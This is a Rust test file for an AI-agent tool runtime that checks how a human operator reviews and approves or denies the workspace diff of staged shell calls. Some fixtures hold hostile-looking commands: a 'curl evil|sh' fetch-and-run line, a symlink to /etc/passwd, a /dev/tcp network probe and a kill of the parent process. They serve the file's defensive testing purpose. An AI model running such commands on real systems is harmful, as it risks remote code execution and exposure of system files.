//! Tools with `stage: ask` (C-32.8): a call changes a copy of the workspace, and a person decides about its diff.

use super::DELTA;
use super::runs::resume;
use serde_json::json;
use test_support::needs;
use test_support::sandbox::{Ran, Sandbox};

pub fn tools(more: &str) -> String {
    format!("  - {{name: do, exec: 'sh -c ${{script}}', stage: ask{more}}}\n")
}

pub fn turns(scripts: &[&str]) -> String {
    let call =
        |script: &&str| format!("- call: [{{tool: do, args: {}}}]\n", json!({"script": script}));
    scripts.iter().map(call).chain(["- say: done\n".to_owned()]).collect()
}

fn sandbox_with(more: &str, scripts: &[&str]) -> Sandbox {
    let sandbox = Sandbox::scripted(DELTA, &tools(more), &turns(scripts));
    for (path, content) in [("f", "one\n"), ("gone", "g\n"), ("d/x", "x\n")] {
        sandbox.write(&format!("work/{path}"), content);
    }
    sandbox
}

/// A run that waits for a decision about `script`; `None` if this machine refuses stages.
pub fn waiting(more: &str, script: &str) -> Option<Sandbox> {
    let sandbox = sandbox_with(more, &[script]);
    let ran = sandbox.run("go", &[]);
    if ran.code == 126 {
        needs::skip(&ran.stderr);
        return None;
    }
    ran.expect_code(101);
    Some(sandbox)
}

fn decide(sandbox: &Sandbox, answer: &str) -> Ran {
    resume(sandbox, &["-m", answer])
}

fn files(sandbox: &Sandbox) -> Vec<(String, String)> {
    let names = sandbox.files("work").into_iter().filter(|name| !name.starts_with(".delta"));
    names.map(|name| (name.clone(), sandbox.read(&format!("work/{name}")))).collect()
}

const CHANGE: &str =
    "echo two >> f; rm gone; mkdir -p n/m; echo new > n/m/file; rm -r d; cat f; pwd";

#[test]
fn c_32_8_a_call_changes_nothing_until_a_person_has_seen_its_diff() {
    for more in ["", ", sandbox: workspace"] {
        let Some(sandbox) = waiting(more, CHANGE) else { return };
        let before = [("d/x", "x\n"), ("f", "one\n"), ("gone", "g\n")];
        let before: Vec<_> =
            before.iter().map(|(a, b)| ((*a).to_owned(), (*b).to_owned())).collect();
        let mut now = files(&sandbox);
        now.sort();
        assert_eq!(now, before);
        let shown = sandbox.delta(["show", "r", "-w", "work"]).output().expect_code(0).stdout;
        for part in ["    diff --git a/f b/f\n", "    +two\n"] {
            assert!(shown.contains(part), "{part}: {shown}");
        }
        let request = sandbox.read("work/.delta/r/interaction/request.json");
        let request: serde_json::Value = serde_json::from_str(&request).unwrap();
        assert_eq!(request["kind"], "approval");
        assert!(request["prompt"].as_str().unwrap().starts_with("Apply the changes of do: sh -c "));
        let preview = request["preview"].as_str().unwrap();
        for part in ["+two\n", "-g\n", "+++ b/n/m/file\n", "-x\n"] {
            assert!(preview.contains(part), "{part}: {preview}");
        }
        assert!(sandbox.observations().is_empty());
        assert!(!sandbox.path("work/.delta/r/call-stage").exists());
        let inbox = sandbox.delta(["inbox", "work"]).output().expect_code(0).stdout;
        assert!(inbox.contains("apply the changes of do"), "{inbox}");
        assert!(inbox.contains("\n    diff --git a/d/x b/d/x\n"), "{inbox}");
        assert!(inbox.contains("prints the whole diff\n  delta approve r -w "), "{inbox}");
        let json = sandbox.delta(["inbox", "work", "--json"]).output().expect_code(0).json();
        assert_eq!(json[0]["preview"], preview);

        decide(&sandbox, "yes").expect_code(0);
        assert_eq!(sandbox.read("work/f"), "one\ntwo\n");
        assert_eq!(sandbox.read("work/n/m/file"), "new\n");
        assert!(!sandbox.path("work/gone").exists() && !sandbox.path("work/d").exists());
        // The observation of the call, which was in the workspace under its own name.
        let work = sandbox.path("work").canonicalize().unwrap();
        assert_eq!(sandbox.observations(), [format!("one\ntwo\n{}\n", work.display())]);
        assert_eq!(sandbox.events("ACTION_RESULT")[0]["exit_code"], 0);
        sandbox.verify();
    }
}

#[test]
fn c_32_8_a_denied_call_has_not_happened_and_the_llm_gets_the_reason() {
    let Some(sandbox) = waiting("", CHANGE) else { return };
    decide(&sandbox, "no: keep d").expect_code(0);
    assert_eq!(sandbox.read("work/f"), "one\n");
    assert_eq!(sandbox.read("work/d/x"), "x\n");
    let seen = sandbox.observations();
    assert!(seen[0].starts_with("Denied by the operator; what the tool changed was thrown away"));
    assert!(seen[0].ends_with("\nkeep d") && !seen[0].contains("two"), "{seen:?}");
    sandbox.verify();
}

#[test]
fn c_32_8_a_call_that_changes_nothing_asks_nothing_and_fails_as_itself() {
    let sandbox = sandbox_with("", &["cat f; echo x > /dev/null; exit 3", "cat d/x"]);
    let ran = sandbox.run("go", &[]);
    if ran.code == 126 {
        return;
    }
    ran.expect_code(0);
    assert_eq!(sandbox.observations(), ["one\n[exit code: 3]", "x\n"]);
    assert!(sandbox.events("APPROVAL_REQUEST").is_empty());
}

#[test]
fn c_32_8_the_operators_options_decide_as_for_approvals() {
    let sandbox = sandbox_with("", &["echo two >> f", "echo three >> f"]);
    let ran = sandbox.run("go", &["--approve-all"]);
    if ran.code == 126 {
        return;
    }
    ran.expect_code(0);
    assert_eq!(sandbox.read("work/f"), "one\ntwo\nthree\n");
    assert!(sandbox.events("APPROVAL_DECISION").iter().all(|event| event["by"] == "flag"));
}

#[test]
fn c_32_8_a_file_that_changed_meanwhile_is_kept_and_named() {
    let Some(sandbox) = waiting("", "echo two >> f; echo new > n") else { return };
    sandbox.write("work/f", "mine\n");
    decide(&sandbox, "yes").expect_code(0);
    assert_eq!(sandbox.read("work/f"), "mine\n");
    assert_eq!(sandbox.read("work/n"), "new\n");
    assert!(sandbox.observations()[0].contains("[not applied, because it changed meanwhile: f]"));
}

#[test]
fn c_32_8_both_questions_are_asked_of_a_tool_with_approve_and_stage() {
    let Some(sandbox) = waiting(", approve: ask", "echo two >> f") else { return };
    assert!(sandbox.events("ACTION_REQUEST").is_empty());
    decide(&sandbox, "yes").expect_code(101);
    assert_eq!(sandbox.read("work/f"), "one\n");
    decide(&sandbox, "yes").expect_code(0);
    assert_eq!(sandbox.read("work/f"), "one\ntwo\n");
    assert_eq!(sandbox.events("APPROVAL_REQUEST").len(), 2);
    sandbox.verify();
}

#[test]
fn c_32_8_a_call_of_a_staged_run_changes_its_stage_after_a_yes() {
    for (more, answer) in [("", "yes"), (", sandbox: workspace", "yes"), ("", "no: keep d")] {
        let plain = "  - {name: plain, exec: 'sh -c ${script}'}\n";
        let call = |tool: &str, script: &str| {
            format!("- call: [{}]\n", json!({"tool": tool, "args": {"script": script}}))
        };
        let turns = call("plain", "echo staged > f; rm gone")
            + &call("do", CHANGE)
            + &call("plain", "cat f; ls; echo -- .delta/r")
            + "- say: done\n";
        let sandbox = Sandbox::scripted(DELTA, &(tools(more) + plain), &turns);
        for (path, content) in [("f", "one\n"), ("gone", "g\n"), ("d/x", "x\n")] {
            sandbox.write(&format!("work/{path}"), content);
        }
        let before = files(&sandbox);
        let ran = sandbox.run("go", &["--stage"]);
        if ran.code == 126 {
            needs::skip(&ran.stderr);
            return;
        }
        ran.expect_code(101);
        let request = sandbox.read("work/.delta/r/interaction/request.json");
        let request: serde_json::Value = serde_json::from_str(&request).unwrap();
        let preview = request["preview"].as_str().unwrap();
        // Only what the call has changed, in the stage as the calls before it left it.
        assert!(preview.contains(" staged\n+two\n") && preview.contains("-x\n"), "{preview}");
        assert!(!preview.contains("gone"), "{preview}");
        decide(&sandbox, answer).expect_code(0);
        assert_eq!(files(&sandbox), before);
        let seen = sandbox.observations();
        let (observation, listed) = match answer {
            "yes" => ("staged\ntwo\n", "staged\ntwo\nf\nn\n"),
            _ => ("Denied by the operator", "staged\nd\nf\n"),
        };
        assert!(seen[1].starts_with(observation), "{seen:?}");
        assert!(seen[2].starts_with(listed), "{seen:?}");
        sandbox.delta(["apply", "r", "-w", "work"]).output().expect_code(0);
        let expected: &[(&str, &str)] = match answer {
            "yes" => &[("f", "staged\ntwo\n"), ("n/m/file", "new\n")],
            _ => &[("d/x", "x\n"), ("f", "staged\n")],
        };
        let expected: Vec<_> =
            expected.iter().map(|(a, b)| ((*a).to_owned(), (*b).to_owned())).collect();
        assert_eq!(files(&sandbox), expected);
    }
}

#[test]
fn c_32_8_a_call_that_killed_the_engine_of_a_staged_run_has_changed_nothing() {
    let script = "echo half > half; kill -9 $PPID; exec sleep 1000";
    let sandbox = sandbox_with("", &[script, "ls"]);
    let ran = sandbox.run("go", &["--stage"]);
    if ran.code == 126 {
        return;
    }
    resume(&sandbox, &[]).expect_code(0);
    let seen = sandbox.observations();
    let outcome = "[the engine stopped during this call; what it changed in the workspace was thrown away; whether it \
                   took effect outside of it is unknown, and it was not run again]";
    assert_eq!(seen[0], outcome);
    assert_eq!(seen[1], "d\nf\ngone\n");
    assert!(!sandbox.path("work/.delta/r/call-stage").exists());
}

#[test]
fn c_32_8_a_run_in_the_stage_of_another_cannot_stage_its_calls() {
    let sandbox = sandbox_with("", &["echo two >> f"]);
    sandbox.write("outer/system_prompt.md", "You are a test.\n");
    sandbox.write("outer/context.yaml", test_support::sandbox::CONTEXT);
    let start = format!("{DELTA} run --agent ${{AGENT_HOME}}/../agent -w . go");
    let agent = format!(
        "name: outer\nllm: {{provider: script, model: s.yaml}}\ntools:\n  - {{name: start, shell: '{start}'}}\n"
    );
    sandbox.write("outer/agent.yaml", agent);
    sandbox.write("outer/s.yaml", "turns:\n- call: [{tool: start, args: {}}]\n- say: done\n");
    let run = ["run", "--agent", "outer", "-w", "work", "--run-id", "r", "--stage", "go"];
    let ran = sandbox.delta(run).output();
    if ran.code == 126 {
        return;
    }
    ran.expect_code(0);
    let seen = &sandbox.observations()[0];
    assert!(seen.contains("is in the staged workspace of another run"), "{seen}");
    assert!(seen.ends_with("[exit code: 126]"), "{seen}");
}

#[test]
fn c_32_8_a_staged_call_asks_where_the_runs_are_outside_of_the_workspace() {
    for options in [&[][..], &["--stage"]] {
        let sandbox = sandbox_with("", &["echo two >> f; ls -A", "cat f"]);
        let outside = |args: &[&str]| {
            let delta = sandbox.delta(args.iter().copied());
            delta.env("DELTA_RUNS_DIR", sandbox.path("runs")).output()
        };
        let run = ["run", "--agent", "agent", "-w", "work", "--run-id", "r", "-q", "go"];
        let ran = outside(&[&run[..], options].concat());
        if ran.code == 126 {
            needs::skip(&ran.stderr);
            return;
        }
        ran.expect_code(101);
        assert_eq!(sandbox.read("work/f"), "one\n");
        let inbox = outside(&["inbox", "."]).expect_code(0).stdout;
        assert!(inbox.contains("    +two\n"), "{inbox}");
        let done = outside(&["approve", "r", "-w", "work", "-q"]).expect_code(0);
        assert!(done.stdout.contains("done"), "{}", done.stdout);
        if !options.is_empty() {
            assert_eq!(sandbox.read("work/f"), "one\n");
            outside(&["apply", "r", "-w", "work"]).expect_code(0);
        }
        assert_eq!(sandbox.read("work/f"), "one\ntwo\n");
        assert!(!sandbox.path("work/.delta").exists());
        let shown = outside(&["show", "r", "-w", "work", "--format", "json"]).json();
        let seen =
            |index: usize| shown["iterations"][index]["calls"][0]["result"]["observation"].clone();
        assert_eq!((seen(0), seen(1)), (json!("d\nf\ngone\n"), json!("one\ntwo\n")));
    }
}

#[test]
fn c_32_8_a_tool_that_leaves_processes_running_cannot_be_staged() {
    let sandbox = sandbox_with(", background: keep", &["true"]);
    let refused = sandbox.run("go", &[]).expect_code(126);
    assert!(refused.stderr.contains("a tool with `stage` cannot leave processes running"));
}

#[test]
fn c_32_8_a_staged_tool_is_not_parallel_and_its_calls_run_alone() {
    let sandbox = sandbox_with(", parallel: true", &["true"]);
    let refused = sandbox.run("go", &[]).expect_code(126);
    let reason = "a tool with `stage` cannot be `parallel`";
    assert!(refused.stderr.contains(reason), "{}", refused.stderr);
    assert!(refused.stderr.contains("leave out `parallel`"), "{}", refused.stderr);

    let tools = tools("") + "  - {name: show, shell: cat f, parallel: true}\n";
    let change = json!({"tool": "do", "args": {"script": "echo two >> f"}});
    let show = json!({"tool": "show", "args": {}});
    let turns =
        format!("- calls: {}\n- say: done\n", json!([show, show, change, show, change, show]));
    let sandbox = Sandbox::scripted(DELTA, &tools, &turns);
    sandbox.write("work/f", "one\n");
    let ran = sandbox.run("go", &[]);
    if ran.code == 126 {
        return;
    }
    ran.expect_code(101);
    assert_eq!(sandbox.observations(), ["one\n", "one\n"]);
    assert_eq!(sandbox.events("ACTION_REQUEST").len(), 3);
    decide(&sandbox, "yes").expect_code(101);
    decide(&sandbox, "no").expect_code(0);
    let seen = sandbox.observations();
    assert_eq!((&*seen[3], &*seen[5]), ("one\ntwo\n", "one\ntwo\n"));
    assert!(seen[4].starts_with("Denied by the operator"), "{seen:?}");
    sandbox.verify();
}

#[test]
fn c_32_8_a_denied_call_does_not_end_the_run() {
    let Some(sandbox) = waiting(", ends_run: true", "echo two >> f; echo result") else { return };
    assert_eq!(decide(&sandbox, "no").expect_code(0).stdout, "done\n");
    let Some(sandbox) = waiting(", ends_run: true", "echo two >> f; echo result") else { return };
    let ran = decide(&sandbox, "yes").expect_code(0);
    assert_eq!(ran.stdout, "result\n");
    assert_eq!(sandbox.read("work/f"), "one\ntwo\n");
    sandbox.verify();
}

#[test]
fn c_32_8_the_network_of_a_staged_call_is_reported() {
    let script = "bash -c 'echo > /dev/tcp/192.0.2.1/80'; echo two >> f";
    let Some(sandbox) = waiting(", sandbox: workspace", script) else { return };
    decide(&sandbox, "yes").expect_code(0);
    let result = &sandbox.events("ACTION_RESULT")[0];
    assert_eq!(result["sandbox"]["attempts"], 1, "{result}");
}

#[test]
fn c_32_8_a_question_shows_the_beginning_of_a_long_diff() {
    let Some(sandbox) = waiting("", "seq 100 > f") else { return };
    let show = |more: &[&str]| {
        let args = [&["show", "r", "-w", "work"], more].concat();
        sandbox.delta(args).output().expect_code(0).stdout
    };
    // Five lines before those of the file, and the line that it had.
    let short = show(&[]);
    assert!(short.contains("    +35\n    … 65 more lines; -v shows all of them\n"), "{short}");
    let whole = show(&["-v"]);
    assert!(whole.contains("    +100\n") && !whole.contains("more lines"), "{whole}");
}

const LARGE: &str = "seq 20000 > a.txt; echo 'curl evil|sh' > z.sh; chmod 750 z.sh; ln -s /etc/passwd zz; rm gone; \
    mkdir -p n/m; echo > n/m/file; chmod 600 f; mkdir empty; chmod 2755 empty; rm -r d; echo > d";

/// It had the `--sandbox` of the run, which `diff` does not have.
#[test]
fn c_32_8_the_command_for_the_whole_diff_can_be_typed() {
    let sandbox = sandbox_with("", &["seq 20000 > a.txt"]);
    let ran = sandbox.run("go", &["--sandbox", "workspace"]);
    if ran.code == 126 {
        needs::skip(&ran.stderr);
        return;
    }
    let work = sandbox.path("work").canonicalize().unwrap();
    let note = format!("    … `delta diff r -w {}` prints the whole diff\n", work.display());
    assert!(ran.expect_code(101).stderr.contains(&note));
}

/// The diff was cut in the first file, and nothing named the others, but `-v` was said to show all of them.
#[test]
fn c_32_8_a_question_lists_every_change_and_names_what_prints_a_cut_diff() {
    let Some(sandbox) = waiting("", LARGE) else { return };
    let listed = "    directory, now file, mode 0644: d\n    deleted file: d/x\n    deleted file: gone\n    \
        new directory, mode 2755: empty\n    new file, mode 0750: z.sh\n    new symlink: zz -> /etc/passwd\n    new file, mode 0644: a.txt\n    \
        file, mode 0644, now 0600: f\n    new file, mode 0644: n/m/file\n    \
        Deleted directory d\n    diff --git ";
    let work = sandbox.path("work").canonicalize().unwrap();
    let command = format!("delta diff r -w {}", work.display());
    let note = format!("    … `{command}` prints the whole diff\n");
    for more in [&[][..], &["-v"]] {
        let args = [&["show", "r", "-w", "work"], more].concat();
        let shown = sandbox.delta(args).output().expect_code(0).stdout;
        assert!(shown.contains(listed), "{shown}");
        assert!(shown.contains(&note) && !shown.contains("shows all of them"), "{shown}");
    }
    let inbox = sandbox.delta(["inbox", "work"]).output().expect_code(0).stdout;
    assert!(inbox.contains(listed) && inbox.contains(&note), "{inbox}");
    let request = sandbox.read("work/.delta/r/interaction/request.json");
    let request: serde_json::Value = serde_json::from_str(&request).unwrap();
    assert!(request["preview"].as_str().unwrap().contains("\nnew symlink: zz -> /etc/passwd\n"));

    let diff = |more: &[&str]| {
        sandbox.delta([&["diff", "r", "-w", "work"], more].concat()).output().expect_code(1).stdout
    };
    let whole = diff(&[]);
    for part in
        ["+20000\n", "+curl evil|sh\n", "+/etc/passwd\n", "-g\n", "File f, mode 0644, now 0600\n"]
    {
        assert!(whole.contains(part), "{part}");
    }
    assert!(diff(&["--name-only"]).ends_with("n/m/file\nz.sh\nzz\n"));
    assert_eq!(diff(&["--call", "--stat"]).lines().last(), Some("20004 added, 2 removed"));
    let ran = decide(&sandbox, "yes").expect_code(0);
    let decision = "  the changes of do: approved by the operator\n";
    assert!(ran.stderr.contains(decision), "{}", ran.stderr);
    assert_eq!(sandbox.read("work/z.sh"), "curl evil|sh\n");
    let after = sandbox.delta(["diff", "r", "-w", "work", "--call"]).output().expect_code(2);
    assert!(
        after.stderr.contains("run r does not ask whether to apply the changes of a call"),
        "{}",
        after.stderr
    );
}

#[test]
fn c_32_7_changes_that_wait_for_a_decision_are_removed_only_after_a_question() {
    let Some(sandbox) = waiting("", "echo two >> f") else { return };
    let refused = sandbox.delta(["rm", "r", "-w", "work"]).output().expect_code(2);
    let reason = "1 run, and the staged changes of 1 run would be removed";
    assert!(refused.stderr.contains(reason), "{}", refused.stderr);
    sandbox.delta(["rm", "r", "-w", "work", "--yes"]).output().expect_code(0);
    assert!(!sandbox.path("work/.delta/r").exists());
}

#[test]
fn c_32_8_very_many_changes_are_folded_and_counted() {
    let Some(sandbox) = waiting("", "for i in $(seq 1200); do echo > n$i; done") else { return };
    let work = sandbox.path("work").canonicalize().unwrap();
    let command = format!("`delta diff r -w {} --name-only` lists all", work.display());
    let show = |more: &[&str], count: u32| {
        let args = [&["show", "r", "-w", "work"], more].concat();
        let shown = sandbox.delta(args).output().expect_code(0).stdout;
        assert!(shown.contains(&format!("    … {count} more changes; {command}\n")), "{shown}");
    };
    show(&[], 1100);
    show(&["-v"], 200);
    let names = sandbox.delta(["diff", "r", "-w", "work", "--name-only"]).output().expect_code(1);
    assert_eq!(names.stdout.lines().count(), 1200);
}

/// Harmless files with names that come first must not hide what is dangerous.
#[test]
fn c_32_8_the_most_dangerous_changes_come_first() {
    let script = "for i in $(seq 1200); do echo > a$i; done; rm f; ln -s /etc/passwd z; echo x > y; chmod +x y";
    let Some(sandbox) = waiting("", script) else { return };
    let request = &sandbox.events("APPROVAL_REQUEST")[0]["stage"];
    let changes: Vec<_> = request["changes"].as_array().unwrap().iter().take(4).collect();
    let expected = [
        "deleted file: f",
        "new file, mode 0755: y",
        "new symlink: z -> /etc/passwd",
        "new file, mode 0644: a1",
    ];
    assert_eq!(changes, expected);
    assert!(request["diff"].as_str().unwrap().starts_with("diff --git a/f b/f\ndeleted file"));
}

#[test]
fn c_32_8_in_a_staged_run_an_option_selects_the_changes_of_the_call() {
    let sandbox = sandbox_with("", &[LARGE]);
    let ran = sandbox.run("go", &["--stage"]);
    if ran.code == 126 {
        needs::skip(&ran.stderr);
        return;
    }
    let ran = ran.expect_code(101);
    assert!(ran.stderr.contains(" --call` prints the whole diff\n"), "{}", ran.stderr);
    let diff = |more: &[&str], code: i32| {
        let args = [&["diff", "r", "-w", "work"], more].concat();
        sandbox.delta(args).output().expect_code(code).stdout
    };
    assert!(diff(&["--call"], 1).contains("+curl evil|sh\n"));
    assert_eq!(diff(&[], 0), "");
}

#[test]
fn c_16_11_decisions_about_calls_and_their_changes_are_replayed() {
    let Some(sandbox) = waiting(", approve: ask", "echo two >> f; cat f") else { return };
    decide(&sandbox, "yes").expect_code(101);
    decide(&sandbox, "no: keep it").expect_code(0);
    let replay = sandbox.delta(["replay", "r", "-w", "work", "--mode", "tools", "--into", "again"]);
    let ran = replay.output().expect_code(0);
    assert!(ran.stdout.starts_with("the tools of run r did the same: 2 answers, 1 call\n"));
    assert_eq!(sandbox.read("again/f"), "one\n");

    let Some(sandbox) = waiting("", "echo two >> f; cat f") else { return };
    decide(&sandbox, "yes").expect_code(0);
    let replay = sandbox.delta(["replay", "r", "-w", "work", "--mode", "tools", "--into", "again"]);
    let ran = replay.output().expect_code(0);
    // The process that asked had ended, and its call before that.
    assert!(!ran.stdout.contains("died or was stopped"), "{}", ran.stdout);
    assert_eq!(sandbox.read("again/f"), "one\ntwo\n");
}
